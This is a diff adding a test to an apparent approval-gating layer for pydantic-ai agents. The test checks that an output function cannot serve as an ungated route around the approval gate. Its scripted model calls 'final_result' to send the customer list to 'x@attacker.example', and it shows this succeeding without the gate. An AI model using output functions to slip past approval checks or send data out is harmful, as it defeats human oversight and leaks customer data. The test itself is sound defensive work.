@@ -254,3 +254,30 @@ def test_pydantic_ais_own_deferred_approval_does_not_release_a_call(tmp_path: Pa
             continue
         assert shop.runs == {}
         assert states(gate.ledger, run.id) == {"refund": ["pending"]}
+
+
+def test_an_output_function_is_refused_beside_a_gated_toolset(tmp_path: Path) -> None:
+    """An output function runs when the model calls it to end the run (``final_result``):
+    ungated, the model's 'final answer' sends the customer list; gated, an agent with an
+    output function is refused as its run starts."""
+    shop = Shop()
+
+    def send_report(to: str) -> str:
+        """Send the final report."""
+        shop.ran("send_report")
+        return f"sent to {to}"
+
+    def script() -> Script:
+        return Script([call("final_result", '{"to": "x@attacker.example"}', "f1")])
+
+    agent: Agent[None, Any] = Agent(_model(script()), output_type=send_report)
+    assert run_agent(agent, "report").output == "sent to x@attacker.example"
+    assert shop.runs == {"send_report": 1}
+    shop.runs.clear()
+    tools, run, _ = _help_run(shop, tmp_path)
+    gated_agent: Agent[None, Any] = Agent(
+        _model(script()), toolsets=[GatedToolset(tools, run=run)], output_type=send_report
+    )
+    with pytest.raises(DefinitionError, match=r"output function.*final_result"):
+        run_agent(gated_agent, "report")
+    assert shop.runs == {}
